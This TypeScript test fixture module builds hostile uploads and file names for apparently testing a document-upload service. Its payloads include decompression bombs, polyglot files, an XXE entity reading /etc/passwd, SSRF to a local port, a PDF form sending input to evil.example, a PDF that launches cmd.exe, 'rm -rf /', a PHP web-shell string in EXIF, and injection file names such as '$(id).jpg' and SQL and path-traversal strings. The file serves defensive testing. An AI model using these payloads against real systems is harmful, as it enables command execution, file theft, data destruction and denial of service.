import { deflateSync, gzipSync } from "node:zlib"
import { PDFName, PDFString } from "@cantoo/pdf-lib"
import sharp from "sharp"
import { heic, html, hugePng, pdf, photo, svg, zip } from "#test/files.ts"

/** Files that may be sent as a document, by mistake or to do harm, and whether anything of them is kept. */
export type HostileFile = { content: () => Promise<Buffer> | Buffer; kept?: true }

const text = (...lines: string[]) => Buffer.from(lines.join("\n"), "latin1")
const launch = { Type: "Action", S: "Launch", F: PDFString.of("cmd.exe") }
const script = Buffer.from("<script>alert(1)</script>")
const half = async (whole: Promise<Buffer> | Buffer) => (await whole).subarray(0, Math.floor((await whole).length / 2))
const plain = () => sharp({ create: { width: 60, height: 40, channels: 3, background: "#fff" } })
const png = () => plain().png().toBuffer()
const webp = () => plain().webp().toBuffer()

/** A chunk of a PNG, right behind its head. */
async function withChunk(type: string, data: Buffer): Promise<Buffer> {
  const whole = await png()
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([whole.subarray(0, 33), length, Buffer.from(type), data, Buffer.alloc(4), whole.subarray(33)])
}

async function jpegOf(width: number, height: number): Promise<Buffer> {
  const whole = Buffer.from(await photo(40, 40))
  const head = whole.indexOf(Buffer.from("ffc0", "hex"))
  whole.writeUInt16BE(height, head + 5)
  whole.writeUInt16BE(width, head + 7)
  return whole
}

export const hostileFiles: Record<string, HostileFile> = {
  "nothing at all": { content: () => Buffer.alloc(0) },
  "one byte": { content: () => Buffer.from("x") },
  "ten million zeros": { content: () => Buffer.alloc(10_000_000) },
  "a file larger than any that is taken": { content: () => Buffer.alloc(10 * 1_048_576 + 1) },

  "a photograph with a ZIP file behind it": {
    content: async () => Buffer.concat([await photo(60, 40), zip]),
    kept: true,
  },
  "a photograph with a page behind it": { content: async () => Buffer.concat([await photo(60, 40), html]), kept: true },
  "a photograph with a PDF behind it": {
    content: async () => Buffer.concat([await photo(60, 40), await pdf()]),
    kept: true,
  },
  "a photograph with a script for its maker": {
    content: () =>
      plain()
        .withExif({ IFD0: { Make: script.toString(), Copyright: "<?php system($_GET[0]) ?>" } })
        .jpeg()
        .toBuffer(),
    kept: true,
  },
  "a PNG with a page behind it": { content: async () => Buffer.concat([await png(), html]), kept: true },
  "a WebP with a program behind it": {
    content: async () => Buffer.concat([await webp(), text("MZ", "x")]),
    kept: true,
  },
  "a PDF with a page before it": { content: async () => Buffer.concat([html, await pdf()]) },
  "a PDF with a ZIP file behind it": { content: async () => Buffer.concat([await pdf(), zip, Buffer.alloc(2_000)]) },

  "half of a photograph": { content: () => half(photo(600, 400)) },
  "half of a PNG": { content: () => half(png()) },
  "half of a WebP": { content: () => half(webp()) },
  "half of a HEIC picture": { content: () => heic.subarray(0, 300) },
  "half of a PDF": { content: () => half(pdf()) },
  "the first bytes of a photograph": { content: () => Buffer.from("ffd8ffe000104a464946", "hex") },
  "the first bytes of a PNG": { content: () => Buffer.from("89504e470d0a1a0a", "hex") },
  "the first bytes of a HEIC picture": { content: () => heic.subarray(0, 40) },
  "a page behind the first bytes of a photograph": {
    content: () => Buffer.concat([Buffer.from("ffd8ffe0", "hex"), html]),
  },
  "a page behind the first bytes of a PNG": {
    content: () => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), html]),
  },

  "a PNG that says it has 3.6 gigapixels": { content: hugePng },
  "a photograph that says it has 4.2 gigapixels": { content: () => jpegOf(65_500, 65_500) },
  "a photograph without width": { content: () => jpegOf(0, 40) },
  "a PNG whose colours unpack to 200 MB": {
    content: () => withChunk("iCCP", Buffer.concat([text("x\0\0"), deflateSync(Buffer.alloc(200_000_000))])),
    kept: true,
  },
  "a PNG whose words unpack to 200 MB": {
    content: () => withChunk("zTXt", Buffer.concat([text("x\0\0"), deflateSync(Buffer.alloc(200_000_000))])),
    kept: true,
  },
  "a HEIC picture whose boxes are longer than it": {
    content: () => {
      const long = Buffer.from(heic)
      long.writeUInt32BE(0x7fffffff, 28)
      return long
    },
  },
  "a ZIP file": { content: () => zip },
  "a gigabyte of zeros, packed": { content: () => gzipSync(gzipSync(Buffer.alloc(100_000_000))) },
  "a packed picture": { content: async () => gzipSync(await photo(60, 40)) },

  "an SVG with a script": { content: () => svg },
  "an SVG that reads a file": {
    content: () =>
      text(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
  },
  "an SVG that fetches": {
    content: () => text('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:5432/"/></svg>'),
  },
  "XML that grows": {
    content: () =>
      text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;&c;</a>'),
  },
  "a page": { content: () => html },
  "a GIF that is a script": { content: () => text("GIF89a/*", "*/=1;alert(1)") },
  "a bitmap": { content: () => text("BM\0\0\0\0", "<script>") },
  "a TIFF": { content: () => plain().tiff().toBuffer() },
  "an AVIF": { content: () => plain().avif().toBuffer() },
  "a film": { content: () => Buffer.from("0000001c667479706d703432000000006d70343269736f6d", "hex") },
  "a program for Windows": { content: () => text("MZ\x90\0", "This program cannot be run in DOS mode.") },
  "a program for Linux": { content: () => Buffer.from("7f454c4602010100", "hex") },
  "a shell script": { content: () => text("#!/bin/sh", "rm -rf /") },
  "a script for PostScript": { content: () => text("%!PS", "(/etc/passwd) (r) file") },
  "a picture's vector script": { content: () => text("push graphic-context", "fill 'url(https://evil.example/|id)'") },
  "the file that every scanner refuses": {
    content: () => text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
  },

  "a PDF that is words": { content: () => text("%PDF-1.7", "nothing", "%%EOF") },
  "a locked PDF": { content: () => pdf((one) => one.encrypt({ userPassword: "a", ownerPassword: "b" })) },
  "a PDF with a script": { content: () => pdf((one) => one.addJavaScript("main", "app.alert(1)")) },
  "a PDF that carries a program": { content: () => pdf((one) => one.attach(text("MZ"), "a.exe", {})) },
  "a PDF that starts a program": {
    content: () => pdf(({ catalog, context }) => catalog.set(PDFName.of("OpenAction"), context.obj(launch))),
  },
  "a PDF that sends what is typed in it": {
    content: () =>
      pdf(({ catalog, context }) =>
        catalog.set(
          PDFName.of("OpenAction"),
          context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example") }),
        ),
      ),
  },
  "a PDF of pages in a ring": {
    content: () =>
      text(
        "%PDF-1.4",
        "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
        "2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj",
        "trailer<</Root 1 0 R/Size 3>>",
        "startxref",
        "0",
        "%%EOF",
      ),
  },
  "a PDF of lists in lists": {
    content: () =>
      text(
        "%PDF-1.4",
        `1 0 obj${"[".repeat(100_000)}endobj`,
        "trailer<</Root 1 0 R/Size 2>>",
        "startxref",
        "0",
        "%%EOF",
      ),
  },
}

/** What a file may be called. The name is shown to its owner, and nothing is ever stored or looked for by it. */
export const hostileNames: Record<string, string> = {
  "a way up": "../../../etc/passwd",
  "a way up on Windows": "..\\..\\boot.ini",
  "a whole path": "/etc/passwd",
  "a device": "CON.jpg",
  "a null byte before another ending": "card.php\0.jpg",
  "letters that turn the ending around": "card\u202Egpj.exe",
  "letters that are not seen": "\u200B\uFEFF\u2060",
  "a script": '"><img src=x onerror=alert(1)>.jpg',
  "a header": "a\r\nSet-Cookie: a=b\r\n.jpg",
  quotes: "a\"b'c`.jpg",
  "a quote for a database": "'; drop table document; --.jpg",
  "a shell command": "$(id).jpg",
  emoji: "😀👨‍👩‍👧‍👦.jpg",
  Urdu: "شناختی کارڈ.jpg",
  "marks heaped on a letter": `a${"\u0301".repeat(500)}.jpg`,
  "four thousand letters": `${"n".repeat(900)}.jpg`,
  "an identity number": "35202-1234567-8.jpg",
  "dots alone": "...",
  "a prototype": "__proto__",
  "half of a pair": "a\uD83D.jpg",
}
